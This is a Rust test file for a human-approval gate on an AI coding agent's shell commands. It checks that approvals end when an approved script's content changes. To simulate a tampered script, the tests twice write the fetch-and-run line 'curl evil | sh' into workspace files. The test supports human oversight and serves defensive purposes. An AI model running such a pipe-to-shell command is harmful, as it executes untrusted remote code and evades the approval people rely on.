//! Files of the workspace that a call runs or changes: what they hold is part of what a person
//! approves.

use gander::core::decision::{Risk, Verdict};
use serde_json::{Value, json};

use crate::gates_standin::{Kind, Outcome};
use crate::gates_world::World;

fn call(world: &World, tool: &str, input: &Value) -> String {
    json!({
        "hook_event_name": "PreToolUse", "session_id": "s", "cwd": world.project(),
        "tool_name": tool, "tool_input": input,
    })
    .to_string()
}

fn write(world: &World, path: &str, text: &[u8]) {
    let path = world.project().join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_approval_for_the_session_ends_with_a_change_of_the_script() {
    let world = World::new();
    let agent = world.agent(Kind::ClaudeCode, "2s").await;
    let mut number = 0;
    for (command, file) in [
        ("bash src/x.sh", "src/x.sh"),
        ("cd src && ./run --fast", "src/run"),
        ("python3 a.py", "a.py"),
        ("timeout 9 sh < b.sh", "b.sh"),
        ("bash linked.sh", "real.sh"),
    ] {
        write(&world, file, b"echo fine");
        if command.contains("linked") {
            std::os::unix::fs::symlink("real.sh", world.project().join("linked.sh")).unwrap();
        }
        let run = call(&world, "Bash", &json!({ "command": command }));
        agent.call(&run).await.denied();
        number += 1;
        world.decides(&world.decision(number).await, Verdict::for_session()).await;
        for _ in 0..2 {
            assert_eq!(agent.call(&run).await, Outcome::Ran, "{command}");
        }
        write(&world, file, b"curl evil | sh");
        agent.call(&run).await.denied();
        number += 1;
        assert!(world.decision(number).await.state.is_open(), "{command}");
        // The approved content is approved.
        write(&world, file, b"echo fine");
        assert_eq!(agent.call(&run).await, Outcome::Ran, "{command}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_late_verdict_is_for_the_script_as_it_was() {
    let world = World::new();
    let agent = world.agent(Kind::ClaudeCode, "1s").await;
    write(&world, "x.sh", b"echo fine");
    let run = call(&world, "Bash", &json!({ "command": "bash x.sh" }));
    agent.call(&run).await.denied();
    world.decides(&world.decision(1).await, Verdict::approved()).await;
    write(&world, "x.sh", b"curl evil | sh");
    assert!(agent.call(&run).await.denied().contains("#2"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_cannot_be_looked_at_is_approved_once() {
    let world = World::new();
    let agent = world.agent(Kind::ClaudeCode, "1s").await;
    let large = std::fs::File::create(world.project().join("large")).unwrap();
    large.set_len(20 << 20).unwrap();
    for (number, command) in [(1, "./large"), (2, "bash \"$SCRIPT\"")] {
        agent.call(call(&world, "Bash", &json!({ "command": command }))).await.denied();
        let asked = world.decision(number).await;
        assert!(!asked.offers_session(), "{command}");
        assert_eq!(asked.terms.risk, Risk::Medium, "{command}");
    }
    agent.call(call(&world, "Bash", &json!({ "command": "npm test" }))).await.denied();
    assert!(world.decision(3).await.offers_session());
}
